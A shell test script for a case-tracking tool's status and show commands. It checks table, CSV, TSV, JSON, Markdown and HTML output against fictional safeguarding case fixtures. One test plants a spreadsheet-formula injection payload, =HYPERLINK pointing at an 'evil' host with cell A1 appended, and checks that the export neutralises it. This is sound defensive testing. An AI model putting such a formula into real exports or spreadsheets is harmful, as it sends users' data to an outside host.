#!/bin/sh
# casefile status and show, as the business office sees them: the table, every format read
# back by a standard tool, the filters, -o, and one case for the meeting.
. "$(dirname "$0")/lib.sh"
need status show
need_tool python3 xmllint
repo="$CF_SRCDIR/example-repo"
same() { # same FILE-GOT FILE-WANT DESC
	if cmp -s "$1" "$2"; then ok "$3"; else
		nok "$3"
		diff "$2" "$1" | sed 's/^/# /'
	fi
}
st() { CASEFILE_TODAY=2026-11-24 NO_COLOR=1 "$CASEFILE" -C "$repo" status "$@"; }

echo "1..28"

st >"$tmp/out.txt" 2>"$tmp/err"
check $? "status exits 0"
cat >"$tmp/want.txt" <<'TXT'
Northdale Safeguarding Children Partnership: open cases as of 2026-11-24

CASE      TITLE           ROUTE         STAGE         OPEN  NEXT DEADLINE                       DUE         WORKING DAYS  RAG    ERR  WARN  ACTIONS
2025-011  Child K         notification  publication    294  LCSPR completed and published       2026-04-30   145 overdue  red      7     1        0
2025-006  Child F         notification  embedding      373  R1.2: Action of the plan completed  2026-10-30    17 overdue  red      1     2        1
2026-007  Child G         notification  review         148  LCSPR completed and published       2026-11-28        3 left  amber    2     2        0
2026-011  Child M         notification  rapid-review     6  Rapid review meeting held           2026-12-03        7 left  green    0     0        0
2026-004  Child D         notification  review         116  LCSPR completed and published       2027-01-06       28 left  green    0     0        0
2026-002  Child B         notification  report         196  -                                                             green    3     1        0
2026-009  Child J         referral      scoping         94  -                                                             green    0     1        0

7 cases: 2 red, 1 amber, 4 green; 2 overdue deadlines (1 action); 13 errors, 7 warnings
TXT
same "$tmp/out.txt" "$tmp/want.txt" "the text table: overdue first, then by working days left"

grep -q '2026-001' "$tmp/out.txt"
check $((! $?)) "a closed case is not listed without --all"
st --all | grep -q '^2026-001  Child A  *notification  closed'
check $? "--all lists the closed case"

st --color always | grep -q "$(printf '\033')\[1;31mred"
check $? "--color always paints red marks"
st --color never | grep -q "$(printf '\033')"
check $((! $?)) "--color never has no escape codes"

st --format csv >"$tmp/s.csv"
python3 - "$tmp/s.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
assert len(rows) == 7, rows
assert rows[0]['case'] == '2025-011' and rows[0]['overdue_by'] == '145' and rows[0]['rag'] == 'red'
assert rows[3]['working_days_left'] == '7' and rows[3]['next_deadline'] == 'rapid-review-meeting'
PY
check $? "csv parses with python's csv module, with the right values"

st --format tsv | python3 -c "import csv,sys; r=list(csv.reader(sys.stdin, delimiter='\t')); assert len(r)==8 and len(set(map(len,r)))==1, r"
check $? "tsv parses, every row with the same columns"

# A spreadsheet runs a cell that begins with =, +, -, @ (or a tab or line break) as a formula:
# the business office opens the CSV in Excel, and a title is typed by any reviewer.  Such a
# cell is written with a leading ' so that it shows as text; RFC 4180 quoting still holds.  A
# plain negative number stays a number.  (Status writes its day counts unsigned, overdue_by
# beside working_days_left, so a free-text field carries the "-3" here.)
inj=$tmp/inj
mkdir -p "$inj" && cp -R "$repo/." "$inj" &&
	sed -i "s|^title: Child J\$|title: '=HYPERLINK(\"http://evil/?\"\&A1,\"x\")'|" "$inj/cases/2026-009/case.yaml" &&
	sed -i "s|^title: Child D\$|title: '-3'|" "$inj/cases/2026-004/case.yaml" &&
	grep -qF "title: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")'" "$inj/cases/2026-009/case.yaml" &&
	grep -qF "title: '-3'" "$inj/cases/2026-004/case.yaml" || bail "cannot make the repository with formula titles"
sti() { CASEFILE_TODAY=2026-11-24 NO_COLOR=1 "$CASEFILE" -C "$inj" status "$@"; }
sti --format csv >"$tmp/inj.csv"
grep -qF "2026-009,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",referral," "$tmp/inj.csv" &&
	python3 - "$tmp/inj.csv" <<'PY'
import csv, sys
rows = {r['case']: r for r in csv.DictReader(open(sys.argv[1], newline=''))}
assert rows['2026-009']['title'] == '\'=HYPERLINK("http://evil/?"&A1,"x")', rows['2026-009']
assert rows['2025-011']['overdue_by'] == '145' and rows['2026-011']['working_days_left'] == '7'
PY
check $? "csv: a title beginning with = is written '=..., quoted by RFC 4180" || show "$tmp/inj.csv"
grep -q '^2026-004,-3,notification,' "$tmp/inj.csv"
check $? "csv: a negative number is left as a number" || show "$tmp/inj.csv"
sti --format tsv >"$tmp/inj.tsv"
grep -qF "$(printf '2026-009\t%s\treferral\t' "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")")" "$tmp/inj.tsv"
check $? "tsv: a title beginning with = is written '=..." || show "$tmp/inj.tsv"
grep -qF "$(printf '2026-004\t-3\tnotification\t')" "$tmp/inj.tsv"
check $? "tsv: a negative number is left as a number" || show "$tmp/inj.tsv"

st --format json >"$tmp/s.json"
python3 -m json.tool "$tmp/s.json" >/dev/null
check $? "json is valid (python3 -m json.tool)"
python3 -c "
import json,sys
d=json.load(open('$tmp/s.json'))
assert d['as_of']=='2026-11-24' and d['totals']['red']==2 and len(d['cases'])==7
assert d['cases'][0]['next_deadline']['working_days']==-145
"
check $? "json holds the as-of date, totals and signed working days"

st --format md | grep -q '^| 2025-011 | Child K | notification | publication | 294 |'
check $? "md is a Markdown table"

st --format html >"$tmp/s.html"
check $? "html renders"
# xmllint's HTML parser knows only HTML 4 (it calls <svg> and <main> invalid tags); the
# page is written as XHTML-compatible markup, so the stricter XML parser must accept it.
xmllint --noout "$tmp/s.html" 2>"$tmp/xml.err" && [ ! -s "$tmp/xml.err" ]
check $? "html is well-formed (xmllint, as XML)"

st -o "$tmp/report.csv" && python3 -c "import csv; assert len(list(csv.reader(open('$tmp/report.csv'))))==8"
check $? "-o FILE takes the format from the extension"
[ "$(stat -c %a "$tmp/report.csv")" = 640 ]
check $? "-o writes a file not readable by others"
st -o "$tmp/report.xyz" 2>"$tmp/err"
[ $? = 2 ] && grep -q "cannot tell the format" "$tmp/err"
check $? "an unknown extension is a usage error"

[ "$(st --stage review --format csv | wc -l)" = 3 ]
check $? "--stage filters"
[ "$(st --route referral --format csv | tail -n +2 | cut -d, -f1)" = 2026-009 ]
check $? "--route filters"
[ "$(st --overdue --format csv | tail -n +2 | cut -d, -f1 | tr '\n' ' ')" = "2025-011 2025-006 " ]
check $? "--overdue keeps the red cases"

st --as-of 2026-02-30 2>"$tmp/err"
[ $? = 2 ] && grep -q "'2026-02-30' is not a date" "$tmp/err"
check $? "a bad --as-of is a usage error"

a=$(CASEFILE_THREADS=1 st --format json | md5sum)
b=$(CASEFILE_THREADS=4 st --format json | md5sum)
[ "$a" = "$b" ]
check $? "one worker thread or four give the same report"

CASEFILE_TODAY=2026-11-24 "$CASEFILE" -C "$repo" show 2025-006 >"$tmp/show.txt"
[ $? = 1 ] && grep -q '^  R1.2     Action of the plan completed             due 2026-10-30  OVERDUE by 17 working days$' "$tmp/show.txt" &&
	grep -q '^  lcspr-completion       due 2026-01-24  met on 2026-01-22$' "$tmp/show.txt" &&
	grep -q '^  2025-06-19  rapid review meeting$' "$tmp/show.txt"
check $? "show lists milestones, deadlines with their state, open items (exit 1: it has errors)"
"$CASEFILE" -C "$repo" show 2099-001 2>/dev/null
check $(($? != 2)) "show of an unknown case is a usage error"
"$CASEFILE" -C "$repo" show .. >"$tmp/dots.out" 2>&1
[ $? = 2 ] && grep -q "no case '..'" "$tmp/dots.out"
check $? "show .. is not the repository read as a case: a usage error" || show "$tmp/dots.out"
